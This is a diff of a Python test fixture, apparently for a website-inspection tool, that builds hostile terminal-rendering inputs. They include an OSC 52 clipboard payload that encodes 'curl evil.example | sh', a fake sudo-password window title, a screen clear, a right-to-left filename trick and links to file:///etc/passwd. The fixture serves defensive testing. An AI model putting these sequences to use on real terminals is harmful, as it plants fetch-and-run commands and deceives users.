@@ -25,7 +25,7 @@ from xunjian.inspection import card_for
 
 ROOT = Path(__file__).resolve().parent.parent
 CODE = "4107000031"
-OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # puts "curl evil.example | sh" on the clipboard
+OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # clipboard: "curl evil.example | sh"
 TITLE = "\x1b]0;sudo password required\x1b\\"
 CLEAR = "\x1b[2J\x1b[H"
 ANCHOR = f"[/]{OSC52}{TITLE}{CLEAR}信息公开\u202etxt.exe"
@@ -53,7 +53,8 @@ def stored(tmp_path: Path) -> dict:
     store.replace_findings(done, [
         {**finding("f-nav", "http://127.0.0.1:9/xxgk/\x1b]8;;file:///etc/passwd\x07x", ANCHOR,
                    f"首页链接「{ANCHOR}」不可用"), "inspection": done},
-        {**finding("f-col", "http://127.0.0.1:9/col/\tcol1/\nindex.html", "[link=file:///etc/passwd]政务\t公开\n栏目[/link]", DETAIL), "inspection": done},
+        {**finding("f-col", "http://127.0.0.1:9/col/\tcol1/\nindex.html",
+                   "[link=file:///etc/passwd]政务\t公开\n栏目[/link]", DETAIL), "inspection": done},
     ])
     store.close()
     return {"folder": folder, "done": done}
